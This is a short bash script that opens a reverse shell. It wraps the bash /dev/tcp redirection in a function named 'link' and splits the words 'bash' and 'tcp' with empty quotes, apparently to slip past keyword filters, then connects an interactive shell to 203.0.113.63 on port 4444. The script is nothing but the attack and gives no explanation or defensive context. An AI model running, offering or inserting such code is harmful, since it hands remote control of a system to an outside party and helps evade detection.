#!/bin/bash
link() {
  "$1" -i >& "/dev/$2/$3/$4" 0>&1
}
link ba""sh tc""p 203.0.113.63 4444